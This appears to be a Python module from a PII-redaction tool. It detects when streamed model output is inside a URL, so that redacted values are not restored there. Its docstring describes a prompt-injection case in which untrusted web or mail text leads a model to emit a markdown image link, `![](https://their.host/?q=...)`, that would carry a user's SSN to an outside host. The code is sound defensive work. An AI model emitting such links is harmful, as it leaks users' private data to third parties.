# SPDX-License-Identifier: Apache-2.0
"""Watches for places where a value must not be put back: addresses that somebody's client loads.

A prompt often holds text of strangers (a web page, a mail), and a model can be talked into saying
`![](https://their.host/?q=[SSN_1_KXQTJW])`. Restored, the caller's own client would carry the
number to their host when it shows the picture. So inside an address placeholders stay as they are.

Rules
-----
1. An address begins with `https:`, two slashes (either way round) or a character reference, which
   may hide either. It ends with white space; in JSON, with an unescaped quotation mark, too.
2. Where a tag (`<a`) has begun in the paragraph, an address ends with the paragraph only: in quoted
   attributes white space and `>` may stand.
3. What is put back is watched as well: `[URL_1_KXQTJW]?q=[SSN_1_KXQTJW]` is such an address, too.
4. How the text was cut into pieces changes nothing. In doubt it is an address.

It is a guard, no proof: a client that renders what models say should load nothing from elsewhere.
"""

from __future__ import annotations

import re

_EVENTS = (
    r"(?P<paragraph>\n[ \t\r]{0,8}\n)|(?P<tag><[A-Za-z/!?])"
    r"|(?P<address>(?i:https?:)|[/\\][ \t\r\n]?[/\\]|&(?:\#|[A-Za-z]{2,9};))"
)
_PLAIN = re.compile(_EVENTS)
_JSON = re.compile(rf'(?P<quote>(?<!\\)")|{_EVENTS}')
_SPACE = re.compile(r"\s")
_LONGEST_EVENT = 16


class Links:
    """Follows one text; `is_open` says whether it is inside an address now."""

    __slots__ = ("_events", "_has_tag", "_tail", "is_open")

    def __init__(self, *, in_json: bool = False) -> None:
        self._events = _JSON if in_json else _PLAIN
        self._tail = ""
        self._has_tag = False
        self.is_open = False

    def feed(self, text: str) -> None:
        """The next piece of the text."""
        at = known = len(self._tail)
        joined = self._tail + text
        for event in self._events.finditer(joined):
            if event.end() > known:
                self._pass(joined, at, event.start())
                self._note(event.lastgroup or "")
                at = event.end()
        self._pass(joined, at, len(joined))
        self._tail = joined[-_LONGEST_EVENT:]

    def _pass(self, text: str, start: int, end: int) -> None:
        """White space ends an address outside tags; there is so much that it is looked for last."""
        if self.is_open and not self._has_tag and _SPACE.search(text, start, end):
            self.is_open = False

    def _note(self, event: str) -> None:
        if event == "address":
            self.is_open = True
        elif event == "tag":
            self._has_tag = True
        else:
            self.is_open = self._has_tag = False
